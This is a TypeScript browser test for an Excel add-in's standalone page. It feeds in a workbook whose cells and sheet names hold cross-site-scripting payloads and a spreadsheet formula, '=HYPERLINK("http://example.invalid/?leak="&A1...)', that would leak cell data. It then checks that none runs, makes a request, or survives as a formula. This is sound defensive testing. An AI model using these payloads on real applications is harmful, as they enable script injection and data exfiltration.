// Issue 7, nothing executes: a workbook whose job titles, sections, post-holders, grades and sheet
// names are script and HTML payloads goes through the standalone page (dist/addin, the real pane,
// BrowserHost and CSP) in Debian's headless Chromium: open, Validate, Build outputs, Download. No
// payload may run, open a dialog, make a request, or become an element; each is shown as text, and
// the workbook the page produces holds each as text, never as a formula.
import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { serveDirectory } from "../../scripts/static-server.mjs";

const CHROMIUM = "/usr/bin/chromium";
const onCi = (process.env.CI ?? "") !== "";
// Skipped on a developer's machine without Chromium; on CI a missing Chromium fails the tests.
const skip = !existsSync(CHROMIUM) && !onCi;
const skipNote = skip ? ` (SKIPPED: ${CHROMIUM} is missing; apt-get install -y --no-install-recommends chromium)` : "";
const DIST = "dist/addin";
const TIMEOUT = 90_000;

// Each payload would set window.__pwned or open a dialog if it ran.
const SCRIPT = "<script>window.__pwned=1</script>";
const IMG = '<img src=x onerror="window.__pwned=1">';
const SVG = '"><svg onload=window.__pwned=1>';
const JS_URL = "javascript:window.__pwned=1";
const TEMPLATE = "{{constructor.constructor('window.__pwned=1')()}}";
const HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")';
const ALERT = "<img src=x onerror=alert(1)>";
const PAYLOADS = [SCRIPT, IMG, SVG, JS_URL, TEMPLATE, HYPERLINK, ALERT];

// Sheet names hold at most 31 characters and none of : \ / ? * [ ].
const PROPOSED_SHEET = '"><svg onload=__pwned=1>';
const GRADES_SHEET = "<img src=x onerror=__pwned=1>";

/** The payload workbook: current and proposed establishments, grades and a title map. */
async function payloadWorkbook(file: string): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  const header = ["Section", "Job title", "Post number", "FTE", "Grade", "Surname", "Initial"];
  workbook
    .addWorksheet("Current")
    .addRows([
      header,
      [SCRIPT, SCRIPT, 1001, 1, "PO1", IMG, "A"],
      [SCRIPT, SVG, 1002, 0.5, SCRIPT, SVG, "B"],
      ["Leaving Care", JS_URL, 1003, 1, "PO1", JS_URL, "C"],
      ["Leaving Care", TEMPLATE, 1004, 1, "PO1", TEMPLATE, "D"],
      ["Leaving Care", HYPERLINK, 1005, 1, "PO1", HYPERLINK, "E"],
      [ALERT, ALERT, 1006, 1, "PO1", ALERT, "F"],
    ]);
  workbook
    .addWorksheet(PROPOSED_SHEET)
    .addRows([
      header,
      [SCRIPT, SCRIPT, 1001, 1, "PO1", IMG, "A"],
      [SCRIPT, SVG, 1002, 1, SCRIPT, SVG, "B"],
      ["Leaving Care", TEMPLATE, 1004, 0.5, "PO1", TEMPLATE, "D"],
      ["Leaving Care", HYPERLINK, 1005, 1, SCRIPT, HYPERLINK, "E"],
      [IMG, IMG, 2001, 1, "PO1", null, null],
    ]);
  workbook.addWorksheet(GRADES_SHEET).addRows([
    ["Grade", "Lowest SCP", "Highest SCP"],
    ["PO1", 32, 35],
    [SCRIPT, 20, 25],
  ]);
  workbook.addWorksheet("Title map").addRows([
    ["Old Job title", "New Job Title"],
    [JS_URL, IMG],
  ]);
  await workbook.xlsx.writeFile(file);
}

let server: Awaited<ReturnType<typeof serveDirectory>>;
let browser: Browser;
let page: Page;
let folder: string;
let workbookFile: string;
const requested: string[] = [];
const dialogs: string[] = [];
const pageErrors: string[] = [];

async function waitForStatus(pattern: RegExp): Promise<void> {
  await page.waitForFunction(
    (source) => new RegExp(source).test(document.getElementById("page-status")?.textContent ?? ""),
    pattern.source,
    { timeout: 30_000 },
  );
}

async function waitUntilIdle(): Promise<void> {
  await page.waitForFunction(() => document.querySelector("#pane")?.getAttribute("aria-busy") !== "true");
}

/** Whether any payload ran, became an element, or tripped the CSP, as the page sees itself. */
async function pageState() {
  return page.evaluate(() => {
    const own = window as unknown as { __pwned?: unknown; __violations?: string[] };
    const withHandlers = [...document.querySelectorAll("*")].filter((element) =>
      [...element.attributes].some((attribute) => /^on/i.test(attribute.name)),
    );
    const links = [...document.querySelectorAll("a[href]")].map((a) => a.getAttribute("href") ?? "");
    return {
      pwned: own.__pwned,
      violations: own.__violations ?? [],
      inlineScripts: document.querySelectorAll("script:not([src])").length,
      images: document.querySelectorAll("img").length,
      svgFromText: [...document.querySelectorAll("svg")].filter((svg) => svg.closest("figure.ec-chart") === null)
        .length,
      iframes: document.querySelectorAll("iframe, object, embed").length,
      withHandlers: withHandlers.map((element) => element.outerHTML.slice(0, 120)),
      scriptLinks: links.filter((href) => /^\s*javascript:/i.test(href)),
      text: document.body.textContent ?? "",
      optionTexts: [...document.querySelectorAll("option")].map((option) => option.textContent ?? ""),
    };
  });
}

async function expectNothingRan(): Promise<Awaited<ReturnType<typeof pageState>>> {
  const state = await pageState();
  expect(state.pwned).toBeUndefined();
  expect(state.violations).toEqual([]);
  expect(state.inlineScripts).toBe(0);
  expect(state.images).toBe(0);
  expect(state.svgFromText).toBe(0);
  expect(state.iframes).toBe(0);
  expect(state.withHandlers).toEqual([]);
  expect(state.scriptLinks).toEqual([]);
  expect(dialogs).toEqual([]);
  return state;
}

describe.skipIf(skip)(`a workbook of script and HTML payloads in the standalone page${skipNote}`, () => {
  beforeAll(async () => {
    if (!existsSync(join(DIST, "standalone.html"))) {
      throw new Error(`${DIST}/standalone.html is missing: run npm run build first`);
    }
    folder = await mkdtemp(join(tmpdir(), "estab-payload-"));
    workbookFile = join(folder, "payloads.xlsx");
    await payloadWorkbook(workbookFile);
    server = await serveDirectory(DIST);
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--headless"] });
    const context = await browser.newContext({ acceptDownloads: true });
    // Runs before the page's own scripts, outside its CSP: records any CSP violation a payload
    // would cause if it were ever parsed as markup.
    await context.addInitScript(() => {
      const own = window as unknown as { __violations: string[] };
      own.__violations = [];
      document.addEventListener("securitypolicyviolation", (event) => {
        own.__violations.push(`${event.violatedDirective} ${event.blockedURI}`);
      });
    });
    page = await context.newPage();
    page.on("request", (request) => requested.push(request.url()));
    page.on("dialog", (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("pageerror", (error) => pageErrors.push(`pageerror: ${error.message}`));
    page.on("console", (message) => {
      if (message.type() === "error") pageErrors.push(`console: ${message.text()}`);
    });
    await page.goto(`${server.url}standalone.html`);
    await waitForStatus(/^Opened /);
    await page.locator("#file").setInputFiles(workbookFile);
    await waitForStatus(/^Opened payloads/);
  }, TIMEOUT);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  it("shows the payload sheet names as text in the pickers and preview, and runs none", async () => {
    const state = await expectNothingRan();
    expect(state.optionTexts).toContain(PROPOSED_SHEET);
    expect(state.optionTexts).toContain(GRADES_SHEET);
    // The preview of the first sheet shows every payload cell as it is.
    for (const payload of PAYLOADS) expect(state.text, payload).toContain(payload);
  });

  it(
    "validates the payload sheets, listing problems as text, and runs none",
    async () => {
      await page.getByLabel("Current establishment").selectOption("Current");
      await page.getByLabel("Proposed establishment").selectOption(PROPOSED_SHEET);
      await page.getByLabel("Grades table").selectOption(GRADES_SHEET);
      await page.getByLabel("Title map (optional)").selectOption("Title map");
      await page.getByRole("button", { name: "Validate" }).click();
      await page.locator("#pane .ec-problems").waitFor({ state: "visible" });
      await waitUntilIdle();
      const problems = await page
        .locator("#pane button.ec-problem")
        .evaluateAll((buttons) => buttons.map((b) => b.getAttribute("data-sheet") ?? ""));
      expect(problems.length).toBeGreaterThan(0);
      // Problems on the payload-named sheet carry its name as data, and show it as text.
      expect(problems).toContain(PROPOSED_SHEET);
      const shown = (await page.locator("#pane .ec-problems").textContent()) ?? "";
      expect(shown).toContain(PROPOSED_SHEET);
      // Selecting a problem on that sheet shows it in the preview, still as text.
      await page
        .locator(`#pane button.ec-problem[data-sheet="${PROPOSED_SHEET.replace(/"/g, '\\"')}"]`)
        .first()
        .click();
      expect(await page.locator("#preview-sheet").inputValue()).toBe(PROPOSED_SHEET);
      await expectNothingRan();
    },
    TIMEOUT,
  );

  it(
    "builds the reduction with the payload titles and sections as text, and runs none",
    async () => {
      await page.locator("#pane details.ec-settings > summary").click();
      const named = page.getByLabel("Name post-holders in the post lists");
      if ((await named.count()) > 0) await named.check();
      await page.getByRole("button", { name: "Build outputs" }).click();
      await page.locator("#pane .ec-results").waitFor({ state: "visible", timeout: 30_000 });
      await waitUntilIdle();
      expect(await page.locator("#preview-sheet").inputValue()).toBe("Reduction table");
      const state = await expectNothingRan();
      for (const payload of [SCRIPT, SVG, TEMPLATE, HYPERLINK, ALERT]) expect(state.text, payload).toContain(payload);
      // The chart's labels are text nodes of its SVG, not markup.
      const chartText = (await page.locator("#pane figure.ec-chart").first().textContent()) ?? "";
      expect(chartText).toContain(SCRIPT);
    },
    TIMEOUT,
  );

  it(
    "downloads a workbook that holds every payload as text, never as a formula",
    async () => {
      const [download] = await Promise.all([
        page.waitForEvent("download"),
        page.locator("#pane .ec-after-build").getByRole("button", { name: "Download workbook" }).click(),
      ]);
      const file = join(folder, download.suggestedFilename());
      await download.saveAs(file);
      await expectNothingRan();

      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(file);
      const texts = new Set<string>();
      const formulas: string[] = [];
      workbook.eachSheet((sheet) => {
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            const value = cell.value;
            if (typeof value === "string") texts.add(value);
            else if (value !== null && typeof value === "object" && "formula" in value) formulas.push(value.formula);
          }),
        );
      });
      for (const payload of PAYLOADS) expect(texts, payload).toContain(payload);
      expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(
        expect.arrayContaining(["Current", PROPOSED_SHEET, GRADES_SHEET, "Reduction table", "Costed posts"]),
      );
      // The only formulas are the reduction table's own sums over the costed posts.
      expect(formulas.length).toBeGreaterThan(0);
      for (const formula of formulas) {
        expect(formula).toMatch(/^(SUMIFS\(|SUM\(|[A-Z]+\d+-[A-Z]+\d+$)/);
        expect(formula).not.toMatch(/HYPERLINK|script|onerror|onload|javascript|constructor/i);
      }
      // And in the package itself: no <f> element holds a payload.
      const zip = await JSZip.loadAsync(await readFile(file));
      const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
      expect(sheets.length).toBeGreaterThan(4);
      for (const name of sheets) {
        const xml = (await zip.file(name)?.async("string")) ?? "";
        for (const f of xml.matchAll(/<f\b[^>]*>([^<]*)<\/f>/g))
          expect(f[1], name).not.toMatch(/HYPERLINK|&lt;|javascript/i);
      }
    },
    TIMEOUT,
  );

  it("made no request outside its own server's files, and logged no errors", async () => {
    const served = new Set(
      (await import("node:fs"))
        .readdirSync(DIST, { recursive: true, encoding: "utf8" })
        .map((file) => file.replace(/\\/g, "/")),
    );
    for (const url of requested) {
      if (/^(blob|data):/.test(url)) continue;
      expect(url.startsWith(server.url), url).toBe(true);
      // A payload parsed as markup would ask the server for "x" (img src=x).
      expect(served.has(decodeURIComponent(new URL(url).pathname.slice(1))), url).toBe(true);
    }
    expect(pageErrors).toEqual([]);
    expect(dialogs).toEqual([]);
  });
});
